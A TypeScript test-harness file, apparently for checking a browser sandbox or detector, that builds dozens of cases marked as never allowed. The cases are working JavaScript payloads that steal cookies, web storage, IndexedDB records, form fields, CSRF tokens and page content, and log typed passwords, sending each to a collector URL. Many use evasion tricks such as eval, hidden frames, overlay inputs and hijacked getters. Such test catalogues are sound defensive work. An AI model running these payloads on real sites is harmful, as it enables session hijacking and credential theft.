import { type CaseContext, quote } from '../case-context.ts'
import { createEffects, type Effect } from './effect.ts'

const sends = (expression: string) => (context: CaseContext) => context.send(expression)
const then = (promise: string, expression: string) => (context: CaseContext) =>
  `${promise}.then(function(r){${context.send(expression)}}).catch(function(){})`
const listen = (target: string, event: string, expression: string) => (context: CaseContext) =>
  `${target}.addEventListener('${event}',function(e){${context.send(expression)}},true)`

const stolen = createEffects(
  'data-theft',
  'secret',
  {
    cookie: sends('document.cookie'),
    "the page's cookie": sends('D.cookie'),
    'cookie by the getter': sends("Object.getOwnPropertyDescriptor(Document.prototype,'cookie').get.call(D)"),
    'cookie of a fresh frame': (context) =>
      `var f=document.createElement('iframe');f.style.display='none';(document.body||document.documentElement).appendChild(f);${context.send('f.contentDocument.cookie')}`,
    'cookie store': then('W.cookieStore.getAll()', 'JSON.stringify(r)'),
    'local storage': sends('JSON.stringify(localStorage)'),
    "the page's local storage": sends("W.localStorage.getItem('account')"),
    'local storage by key': sends('W.localStorage.account'),
    'local storage, one by one': (context) =>
      `for(var i=0;i<W.localStorage.length;i++){var k=W.localStorage.key(i);${context.send('W.localStorage.getItem(k)')}}`,
    'session storage': sends("W.sessionStorage.getItem('basket')"),
    'all of session storage': sends('JSON.stringify(Object.assign({},sessionStorage))'),
    database: (context) =>
      `var o=indexedDB.open('shop');o.onsuccess=function(){var g=o.result.transaction('user').objectStore('user').getAll();g.onsuccess=function(){${context.send('JSON.stringify(g.result)')}}}`,
    'cached answer': (context) =>
      `W.caches.match('/private').then(function(r){return r.text()}).then(function(t){${context.send('t')}})`,
    'value of a field': sends("D.getElementById('email').value"),
    'all fields': sends("Array.from(D.querySelectorAll('input'),function(i){return i.value}).join()"),
    'form data': sends('new URLSearchParams(new W.FormData(D.forms[0])).toString()'),
    'value by the getter': sends(
      "Object.getOwnPropertyDescriptor(HTMLInputElement.prototype,'value').get.call(D.getElementById('email'))",
    ),
    'hidden field': sends("D.querySelector('[name=csrf]').value"),
    'meta data': sends("D.querySelector('meta[name=csrf-token]').content"),
    'text of the page': sends("D.getElementById('private').textContent"),
    'all text of the page': sends('D.body.innerText'),
    'markup of the page': sends("D.getElementById('private').outerHTML"),
    'serialised page': sends("new XMLSerializer().serializeToString(D.getElementById('private'))"),
    'range of the page': (context) =>
      `var r=D.createRange();r.selectNode(D.getElementById('private'));${context.send('r.toString()')}`,
    'text by a path': sends('D.evaluate(\'string(//p[@id="private"])\',D,null,2,null).stringValue'),
    'text by a walker': (context) =>
      `var w=D.createTreeWalker(D.getElementById('private'),4),t='';while(w.nextNode())t+=w.currentNode.nodeValue;${context.send('t')}`,
    'data of a text node': sends("D.getElementById('private').firstChild.data"),
    'part of a text node': sends("D.getElementById('private').firstChild.substringData(0,60)"),
    'selected text': (context) =>
      `W.getSelection().selectAllChildren(D.getElementById('private'));${context.send('String(W.getSelection())')}`,
    'fragment of a range': (context) =>
      `var r=D.createRange();r.selectNode(D.getElementById('private'));${context.send('r.cloneContents().textContent')}`,
    'markup with shadow roots': sends(
      '(D.body.getHTML?D.body.getHTML():D.body.innerHTML).split(\'<p id="private">\')[1].slice(0,60)',
    ),
    'copied element': sends("document.importNode(D.getElementById('private'),true).textContent"),
    'default value': sends("D.getElementById('email').defaultValue"),
    'attribute of a field': sends("D.getElementById('email').getAttribute('value')"),
    'attribute node of a field': sends("D.getElementById('email').attributes.value.nodeValue"),
    'elements of the form': sends('D.forms[0].elements.csrf.value'),
    'cookie by the old getter': sends("D.__lookupGetter__('cookie').call(D)"),
    'cookie by Reflect': sends("Reflect.get(W.Document.prototype,'cookie',D)"),
    'one cookie of the store': then("W.cookieStore.get('session')", 'r.value'),
    'clone of a variable': sends('structuredClone(W.account).token'),
    'database with a cursor': (context) =>
      `W.indexedDB.databases().then(function(l){l.forEach(function(b){var o=W.indexedDB.open(b.name);o.onsuccess=function(){if(!o.result.objectStoreNames.length)return;var g=o.result.transaction(o.result.objectStoreNames).objectStore(o.result.objectStoreNames[0]).openCursor();g.onsuccess=function(){g.result&&(function(){${context.send('JSON.stringify(g.result.value)')}})()}}})})`,
    'page data by a worker': (context) =>
      `var w=new Worker(URL.createObjectURL(new Blob(['fetch("'+W.location.origin+'/account",{credentials:"include"}).then(function(r){return r.text()}).then(postMessage)'])));w.onmessage=function(e){${context.send('e.data')}}`,
    'page data as a module': (context) =>
      `W.Function('return import("/account",{with:{type:"json"}})')().then(function(m){${context.send('m.default.token')}})`,
    'page data by synchronous XHR': (context) =>
      `var x=new XMLHttpRequest();x.open('GET',W.location.origin+'/account',false);x.send();${context.send('x.responseText')}`,
    'variable of the page': sends('W.account.token'),
    'all variables of the page': sends(
      "Object.keys(W).map(function(k){try{return JSON.stringify(W[k])}catch(e){return ''}}).join().slice(0,6000)",
    ),
    'state of the page': sends('JSON.stringify(W.history.state)'),
    'page data by fetch': (context) =>
      `fetch('/account').then(function(r){return r.text()}).then(function(t){${context.send('t')}})`,
    "page data by the page's fetch": (context) =>
      `W.fetch('/account').then(function(r){return r.json()}).then(function(t){${context.send('t.token')}})`,
    'page data by XHR': (context) =>
      `var x=new W.XMLHttpRequest();x.open('GET','/account');x.onload=function(){${context.send('x.responseText')}};x.send()`,
    'page data in a frame': (context) =>
      `var f=D.createElement('iframe');f.style.display='none';f.src='/account';f.onload=function(){${context.send('f.contentDocument.body.textContent')}};D.body.appendChild(f)`,
    'style that reads a field': (context) =>
      `var t='';'abcdefghijklmnopqrstuvwxyz'.split('').forEach(function(c){t+='#email[value^="'+c+'"]{background:url(${context.url('css')}/'+c+')}'});var y=D.createElement('style');y.textContent=t;D.head.appendChild(y)`,
    'window name': sends('W.name'),
    'text in the page': (context) =>
      `W.eval(${quote(`new Image().src=${quote(context.url('c'))}+'?'+document.cookie`)})`,
  },
  { isNeverAllowed: true },
)

const typed = createEffects(
  'data-theft',
  'typed',
  {
    'key listener': (context) =>
      `var b='';D.addEventListener('keydown',function(e){e.key.length===1&&(b+=e.key);b.length>9&&(function(){${context.send('b')}})()})`,
    'key listener on the window': (context) =>
      `var b='';W.addEventListener('keypress',function(e){b+=e.key;b.length>9&&(function(){${context.send('b')}})()},true)`,
    'key property': (context) =>
      `var b='';D.onkeyup=function(e){e.key.length===1&&(b+=e.key);b.length>9&&(function(){${context.send('b')}})()}`,
    'input listener': listen('D', 'input', 'e.target.value'),
    'input listener on the field': listen("D.getElementById('password')", 'input', 'e.target.value'),
    'input property of the field': (context) =>
      `D.getElementById('password').oninput=function(){${context.send('this.value')}}`,
    'before input': (context) =>
      `var b='';D.addEventListener('beforeinput',function(e){b+=e.data||'';b.length>9&&(function(){${context.send('b')}})()})`,
    'change listener': listen('D', 'change', 'e.target.value'),
    'blur listener': listen('D', 'blur', "e.target.value||''"),
    'focus out listener': listen('D.body', 'focusout', "e.target.value||''"),
    polling: (context) =>
      `setInterval(function(){var t=D.getElementById('password').value;t.length>9&&(function(){${context.send('t')}})()},60)`,
    'drawing loop': (context) =>
      `var s=0;(function l(){var t=D.getElementById('password').value;t.length>9&&!s&&(s=1,(function(){${context.send('t')}})());requestAnimationFrame(l)})()`,
    'submit listener': (context) =>
      `D.addEventListener('submit',function(e){${context.send('new URLSearchParams(new FormData(e.target)).toString()')}},true)`,
    'form data listener': (context) =>
      `D.addEventListener('formdata',function(e){${context.send('new URLSearchParams(e.formData).toString()')}},true)`,
    'field over the field': (context) =>
      `var i=D.createElement('input'),r=D.getElementById('password').getBoundingClientRect();i.style.cssText='position:absolute;z-index:9;opacity:0;left:'+r.left+'px;top:'+r.top+'px;width:'+r.width+'px;height:'+r.height+'px';i.oninput=function(){i.value.length>9&&(function(){${context.send('i.value')}})()};D.body.appendChild(i)`,
    'field that takes the focus': (context) =>
      `var i=D.createElement('input');i.style.cssText='position:absolute;left:-999px';i.oninput=function(){i.value.length>9&&(function(){${context.send('i.value')}})()};D.body.appendChild(i);D.getElementById('password').addEventListener('focus',function(){setTimeout(function(){i.focus()})})`,
    'field is replaced': (context) =>
      `var o=D.getElementById('password'),n=o.cloneNode(true);n.oninput=function(){n.value.length>9&&(function(){${context.send('n.value')}})()};o.replaceWith(n)`,
    'value getter is replaced': (context) =>
      `var p=W.HTMLInputElement.prototype,d=Object.getOwnPropertyDescriptor(p,'value');Object.defineProperty(p,'value',{configurable:true,get:function(){var t=d.get.call(this);t.length>9&&(function(){${context.send('t')}})();return t},set:d.set})`,
    'active element': (context) =>
      `var s=0;setInterval(function(){var e=D.activeElement,t=e&&e.value||'';t.length>9&&!s&&(s=1,(function(){${context.send('t')}})())},60)`,
    'key by an abort signal': (context) =>
      `var b='';D.body.addEventListener('keyup',function(e){b+=e.key;b.length>9&&(function(){${context.send('b')}})()},{signal:new AbortController().signal,capture:true})`,
    'form property': (context) =>
      `D.forms[0].onsubmit=function(){${context.send('new URLSearchParams(new FormData(this)).toString()')}}`,
    'attribute on the field': (context) =>
      `D.getElementById('password').setAttribute('oninput',${quote(`this.value.length>9&&(new Image().src=${quote(`${context.url('c')}?`)}+this.value)`)})`,
    "the page's fetch is wrapped": (context) =>
      `var n=W.fetch;W.fetch=function(u,o){${context.send("String(o&&o.body||'')")};return n.apply(this,arguments)}`,
    'listener of a fresh frame': (context) =>
      `var f=D.createElement('iframe');f.style.display='none';D.body.appendChild(f);D.addEventListener('input',f.contentWindow.Function('e',${quote(`e.target.value.length>9&&(new Image().src=${quote(`${context.url('c')}?`)}+e.target.value)`)}))`,
    'listener by text in the page': (context) =>
      `W.eval(${quote(`addEventListener('input',function(e){e.target.value.length>9&&(new Image().src=${quote(`${context.url('c')}?`)}+e.target.value)})`)})`,
  },
  { isNeverAllowed: true, isEarly: true },
)

export const dataThefts: Effect[] = [...stolen, ...typed]
